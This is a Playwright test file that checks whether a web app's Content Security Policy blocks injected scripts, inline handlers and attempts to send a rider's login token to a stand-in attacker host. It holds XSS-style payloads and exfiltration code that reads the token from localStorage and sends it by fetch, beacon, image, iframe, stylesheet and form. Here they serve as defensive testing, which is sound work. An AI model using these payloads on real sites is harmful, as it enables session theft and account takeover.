import { expect, type Page } from 'playwright/test'
import { createPropertyWithScooter, seedRiderSession, signUpRider, visit } from './helpers/people.ts'
import { test } from './helpers/test.ts'

// An attacker who injects markup or scripts into a page must not run code or read the rider's token.

const ATTACKER_ORIGIN = 'https://thief.example.test'

/** Collects the requests that reach the attacker's host. */
async function recordAttackerRequests(page: Page): Promise<string[]> {
  const reached: string[] = []
  await page.context().route(`${ATTACKER_ORIGIN}/**`, route => {
    reached.push(route.request().url())
    return route.fulfill({ body: 'window.stolen = "by a script from elsewhere"', contentType: 'text/javascript' })
  })
  return reached
}

const directives = (refused: readonly string[]) => [...new Set(refused.map(text => text.split(' ')[0]))].toSorted()

/** Waits for the page to finish earlier work, because a blocked script leaves nothing to wait for. */
const wasStolen = (page: Page) => page.evaluate(() => 'stolen' in window)

test('injected scripts, handlers and strings do not run, and the token cannot be sent to a foreign host', async ({
  page,
  violations
}) => {
  const reached = await recordAttackerRequests(page)
  const { property } = await createPropertyWithScooter()
  await seedRiderSession(page, await signUpRider(property.id))
  await visit(page, '/')
  await page.evaluate(attackerOrigin => {
    const inline = document.createElement('script')
    inline.textContent = 'window.stolen = "by an inline script"'
    const foreign = document.createElement('script')
    foreign.src = `${attackerOrigin}/script.js`
    document.body.append(inline, foreign)
    const markup = document.createElement('div')
    markup.innerHTML =
      '<img alt="" src="data:," onerror="window.stolen = \'by a handler\'"><a href="#" onclick="window.stolen = 1">x</a>'
    document.body.append(markup)
    markup.querySelector('a')?.click()
  }, ATTACKER_ORIGIN)
  await expect.poll(() => directives(violations)).toEqual(['script-src-attr', 'script-src-elem'])
  await expect.poll(() => violations.length).toBe(4)
  expect(await wasStolen(page)).toBe(false)
  expect(reached).toEqual([])
  violations.splice(0)

  // `page.evaluate` is exempt from the policy, so the page's own handler makes the call.
  await page.evaluate(() => {
    const button = document.createElement('button')
    button.addEventListener('click', () => setTimeout('window.stolen = 1'))
    document.body.append(button)
    button.click()
  })
  await expect.poll(() => directives(violations)).toEqual(['script-src'])
  expect(await wasStolen(page)).toBe(false)
  violations.splice(0)

  await page.evaluate(async attackerOrigin => {
    const exfiltrationUrl = `${attackerOrigin}/?token=${localStorage.getItem('token')}`
    await fetch(exfiltrationUrl).catch(() => undefined)
    navigator.sendBeacon(exfiltrationUrl)
    new Image().src = exfiltrationUrl
    const frame = Object.assign(document.createElement('iframe'), { src: exfiltrationUrl })
    const sheet = Object.assign(document.createElement('link'), { href: exfiltrationUrl, rel: 'stylesheet' })
    const form = Object.assign(document.createElement('form'), { action: exfiltrationUrl, method: 'post' })
    document.body.append(frame, sheet, form)
    form.submit()
  }, ATTACKER_ORIGIN)
  const enforced = ['connect-src', 'form-action', 'frame-src', 'img-src', 'style-src-elem']
  await expect.poll(() => directives(violations)).toEqual(enforced)
  expect(reached).toEqual([])
  violations.splice(0)
})
